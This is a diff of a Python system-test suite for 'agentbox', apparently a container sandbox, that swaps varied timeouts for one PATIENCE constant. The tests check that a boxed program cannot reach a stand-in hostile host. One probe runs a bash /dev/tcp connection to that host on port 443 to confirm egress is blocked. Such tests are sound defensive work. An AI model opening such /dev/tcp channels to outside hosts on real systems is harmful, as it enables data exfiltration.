@@ -12,7 +12,7 @@ import time
 
 import box
 import rig
-from box import SystemTest, patience, podman, processes, wait_until
+from box import PATIENCE, SystemTest, podman, processes, wait_until
 
 EVIL = "198.51.100.10"
 
@@ -30,7 +30,7 @@ class LifecycleAttack(SystemTest):
     def attacked(self, *options):
         """A box whose program sends to the hostile host for as long as it lives."""
         launcher = self.start("run", *options, "--", "./race", "running")
-        wait_until(lambda: (self.workspace / "running").exists() or launcher.poll() is not None, 20, "the box runs")
+        wait_until(lambda: (self.workspace / "running").exists() or launcher.poll() is not None, "the box runs")
         self.assertIsNone(launcher.poll(), "the box ended early")
         return launcher
 
@@ -40,7 +40,7 @@ class LifecycleAttack(SystemTest):
     def end(self, launcher):
         if launcher.poll() is None:
             launcher.terminate()
-        launcher.wait(patience(20))
+        launcher.wait(PATIENCE)
         self.assertCode(self.agentbox("run", "--", "true"), 0)  # cleans up after a launcher that was killed
         self.assert_gone()
 
@@ -58,7 +58,7 @@ class Race(LifecycleAttack):
             place = places[number % 2]
             if place in running:
                 done = running.pop(place)
-                _, err = done.communicate(timeout=patience(30))
+                _, err = done.communicate(timeout=PATIENCE)
                 self.assertEqual(done.returncode, 0, err)
             if number < self.LAUNCHES:
                 running[place] = subprocess.Popen([box.AGENTBOX, "run", "--", "./race"], cwd=place, stdin=subprocess.DEVNULL,
@@ -68,7 +68,7 @@ class Race(LifecycleAttack):
 
     def test_the_same_race_arrives_without_a_firewall(self):
         self.agentbox("run", "--full-network", "--", "./race")
-        wait_until(lambda: any(packet["to"] == EVIL for packet in self.internet.packets()), 5, "a packet arrives")
+        wait_until(lambda: any(packet["to"] == EVIL for packet in self.internet.packets()), "a packet arrives")
 
 
 class Podman(LifecycleAttack):
@@ -78,15 +78,15 @@ class Podman(LifecycleAttack):
         launcher = self.attacked()
         target = self.container(part) if part else podman("pod", "ps", "--format", "{{.Name}}")[0]
         for words in filter(None, (command, again)):
-            done = subprocess.run(["podman", *words, target], capture_output=True, text=True, timeout=patience(40), check=False)
+            done = subprocess.run(["podman", *words, target], capture_output=True, text=True, timeout=PATIENCE, check=False)
             halts = "without a cgroup" not in done.stderr  # nobody can be halted there
             if words is command and done.returncode != 0 and halts:
                 # It came too late for a box whose agent it had ended; any other attack must succeed.
                 with self.subTest("the attack failed", error=done.stderr):
-                    launcher.wait(patience(5))
+                    launcher.wait(PATIENCE)
             time.sleep(0.1)  # packets that would leave have time to
         probe = ["podman", "exec", self.name_of_agent(), "bash", "-c", f"exec 3<>/dev/tcp/{EVIL}/443 && echo open"]
-        done = subprocess.run(probe, capture_output=True, text=True, timeout=patience(20), check=False)
+        done = subprocess.run(probe, capture_output=True, text=True, timeout=PATIENCE, check=False)
         self.assertNotIn("open", done.stdout)
         self.end(launcher)
         self.assert_nothing_left_the_box()
@@ -208,7 +208,7 @@ class Steps(LifecycleAttack):
     def run_with(self, fault, command=("./race",)):
         return subprocess.run([self.program / "bin" / "agentbox", "run", *self.SECRET, "--", *command], cwd=self.workspace,
                               env=self.environment(AGENTBOX_FAULT=fault), capture_output=True, text=True,
-                              stdin=subprocess.DEVNULL, timeout=patience(60), check=False)
+                              stdin=subprocess.DEVNULL, timeout=PATIENCE, check=False)
 
     def number_of_steps(self, phase):
         plan = self.agentbox("run", "--dry-run", "--json", *self.SECRET, "--", "./race")
@@ -244,7 +244,7 @@ class Steps(LifecycleAttack):
         def judge(done, _):
             self.assertEqual(done.returncode, -signal.SIGKILL)
             self.assert_value_is_in_no_file()
-            wait_until(lambda: not [line for line in processes().values() if "podman" in line], 10, "its podman ends")
+            wait_until(lambda: not [line for line in processes().values() if "podman" in line], "its podman ends")
             self.assertCode(self.in_box("true"), 0)  # the next call cleans up
             self.assert_gone()
         self.at_each("steps", "kill", judge)
